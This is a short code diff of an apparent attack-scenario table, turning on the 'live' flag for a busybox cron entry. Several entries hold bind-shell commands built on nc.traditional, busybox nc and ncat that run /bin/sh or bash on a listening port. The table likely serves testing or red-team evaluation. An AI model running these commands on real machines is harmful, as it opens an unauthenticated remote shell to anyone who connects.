@@ -241,7 +241,7 @@ ATTACKS = [
     Attack("bind_nc_traditional_ssh", "A", "bind", "ssh", "bind",
            "nc.traditional -l -p @P@ -e /bin/sh", needs=("nc.traditional",), live=True),
     Attack("bind_busybox_cron", "B", "bind", "cron", "bind", "busybox nc -l -p @P@ -e sh",
-           needs=("busybox",)),
+           needs=("busybox",), live=True),
     Attack("bind_ncat6_web", "B", "bind", "web", "bind6", "ncat -6 -l @P@ -c 'exec bash'",
            needs=("ncat",), live=True),
     Attack("bind_socat_udp_cron", "B", "bind", "cron", "udp_bind",
